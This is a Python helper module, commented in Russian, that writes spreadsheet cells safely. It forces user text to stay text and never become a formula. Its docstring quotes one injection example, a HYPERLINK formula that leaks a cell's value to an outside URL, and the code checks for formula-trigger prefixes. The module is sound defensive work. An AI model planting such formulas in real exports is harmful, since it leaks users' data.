"""Единственное место, где приложение пишет текст в ячейки Excel (все выгрузки и шаблоны).

Текст, который начинается с = + - @ табуляции или перевода каретки, Excel и LibreOffice приняли бы
за формулу (CSV/формульная инъекция: `=HYPERLINK("http://…?leak="&A1)`). Здесь такой текст всегда
остаётся текстом:
- openpyxl (`write_text`, `append_text_row`): тип ячейки — строка, стиль с «префиксом кавычки»,
  так что и после правки ячейки в Excel формулой он не станет;
- потоковая запись XML (`inline_string_xml`, reports/xlsx.py): встроенная строка (t="inlineStr") —
  по спецификации OOXML это всегда текст, формулы в ней не вычисляются.
"""

from __future__ import annotations

import re
from collections.abc import Iterable

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
MAX_CELL_CHARS = 32_767  # больше Excel в ячейку не принимает
_SPACES = " \t\n\r"
# Одним проходом translate: экранирование XML и удаление управляющих символов, которых XML не допускает.
XML_TEXT = str.maketrans(
    {
        "&": "&amp;",
        "<": "&lt;",
        ">": "&gt;",
        **{chr(code): None for code in (*range(0, 9), 11, 12, *range(14, 32))},
    }
)
# Те же символы одним регулярным выражением: в большинстве ячеек их нет, и проверка (C, без словаря на
# каждый символ) втрое дешевле translate — выгрузка 150 000 мероприятий пишет 1,3 млн ячеек.
_NEEDS_XML_ESCAPE = re.compile("[&<>\x00-\x08\x0b\x0c\x0e-\x1f]")


def looks_like_formula(value: str) -> bool:
    return value.startswith(FORMULA_PREFIXES)


def write_text(cell, value) -> None:
    """Значение в ячейку openpyxl: строки — только текстом (никогда не формулой), прочее — как есть."""
    if isinstance(value, str):
        value = value[:MAX_CELL_CHARS]
        cell.value = value
        cell.data_type = "s"
        if looks_like_formula(value):
            cell.quotePrefix = True
    else:
        cell.value = value


def append_text_row(sheet, values: Iterable) -> None:
    """Как `sheet.append`, но через `write_text`: формулы из данных не появятся."""
    row = sheet._current_row + 1  # тот же счётчик строк, что у Worksheet.append
    for column, value in enumerate(values, start=1):
        if value is None or value == "":
            continue
        write_text(sheet.cell(row=row, column=column), value)
    sheet._current_row = row


def inline_string_xml(opening: str, value: str) -> str:
    """XML ячейки со встроенной строкой; opening — начало тега ячейки до атрибута типа:
    '<c r="B12" s="3"'. Строка обрезается до предела Excel и экранируется."""
    space = ' xml:space="preserve"' if value[0] in _SPACES or value[-1] in _SPACES else ""
    text = value[:MAX_CELL_CHARS]
    if _NEEDS_XML_ESCAPE.search(text) is not None:
        text = text.translate(XML_TEXT)
    return f'{opening} t="inlineStr"><is><t{space}>{text}</t></is></c>'
